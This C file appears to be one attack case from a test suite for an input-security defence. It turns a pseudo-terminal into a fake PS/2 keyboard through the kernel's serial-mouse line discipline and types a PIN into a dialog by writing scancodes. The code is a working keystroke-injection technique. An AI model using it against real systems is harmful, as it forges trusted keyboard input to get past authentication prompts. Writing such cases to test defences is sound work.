// SPDX-License-Identifier: Apache-2.0
/*
 * Makes a PS/2 keyboard of a pseudo-terminal before the dialog is there: the line
 * discipline that serial mice and keyboards use gives it a port, the kernel's own
 * driver of AT keyboards takes it, and a PIN is typed at the other end.
 *
 * attack: serport_keyboard
 * class: input
 * when: before
 * judge: decided
 * defence: module
 * why: driver, name and bus are the real keyboard's, but its port is not below the
 *	controller that the policy lists
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/serio.h>
#include <linux/tty.h>
#include <pthread.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

#include "intruder.h"
#include "report.h"

#define SET2_RELEASE	0xf0
#define SET2_ENTER	0x5a

/* In the order of the digits 0 to 9. */
static const uint8_t set2[] = { 0x45, 0x16, 0x1e, 0x26, 0x25, 0x2e, 0x36, 0x3d, 0x3e, 0x46 };

static void press(void *device, char key)
{
	const uint8_t code = key == '\n' ? SET2_ENTER : set2[(key - '0') % 10];
	const uint8_t up[] = { SET2_RELEASE, code };
	const int master = *(int *)device;

	(void)!write(master, &code, 1);
	attack_wait(30);
	(void)!write(master, up, sizeof(up));
	attack_wait(30);
}

/* The port is there for as long as this read() waits. */
static void *be_port(void *arg)
{
	char byte;

	(void)!read(*(int *)arg, &byte, 1);
	return NULL;
}

static int make_port(int *ret_master, int *slave)
{
	unsigned long type = SERIO_PS2SER;
	int discipline = N_MOUSE;
	pthread_t thread;

	*ret_master = posix_openpt(O_RDWR | O_NOCTTY | O_CLOEXEC);
	if (*ret_master < 0 || grantpt(*ret_master) || unlockpt(*ret_master))
		return -errno;
	*slave = open(ptsname(*ret_master), O_RDWR | O_NOCTTY | O_CLOEXEC);
	if (*slave < 0 || ioctl(*slave, TIOCSETD, &discipline) || ioctl(*slave, SPIOCSTYPE, &type))
		return -errno;
	if (pthread_create(&thread, NULL, be_port, slave))
		return -EAGAIN;
	attack_wait(1500);
	return 0;
}

int main(void)
{
	int master, slave, ret;

	attack_init();
	ret = make_port(&master, &slave);
	attack_ready();
	if (ret)
		attack_failed("no port can be made: %s", strerror(-ret));
	intruder_type(press, &master);
}
